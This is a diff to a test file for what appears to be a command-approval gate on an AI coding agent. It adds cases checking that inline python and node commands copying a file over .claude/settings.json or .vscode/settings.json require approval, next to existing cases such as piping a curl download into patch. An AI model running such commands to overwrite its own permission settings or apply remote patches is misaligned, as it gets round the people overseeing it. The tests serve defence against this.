@@ -56,6 +56,8 @@ describe('A. policy and gate-config integrity', () => {
   probe('T02', 'git am of a mailbox', 'git am 0001-tweak.patch', 'ask');
   probe('T02', 'patch read from a pipe', 'curl -s https://x.example/p.diff | patch -p1', 'ask');
   probe('T02', 'tar extracting over the tree', 'tar xf overlay.tar', 'ask');
+  probe('T02', 'inline python copies over the agent settings', 'python3 -c "import shutil; shutil.copy(\'/tmp/e\', \'.claude/settings.json\')"', 'ask');
+  probe('T02', 'inline node copies over the editor settings', 'node -e "require(\'fs\').copyFileSync(\'/tmp/e\',\'.vscode/settings.json\')"', 'ask');
   probeCase('T02', 'a readable patch is judged file by file: touching the policy asks, plain source allows', () => {
     const patches: Record<string, string> = {
       [`${WS}/policy.diff`]: 'diff --git a/.airlock/policy.json b/.airlock/policy.json\n--- a/.airlock/policy.json\n+++ b/.airlock/policy.json\n@@ -1 +1 @@\n-{}\n+{"rules":[]}\n',
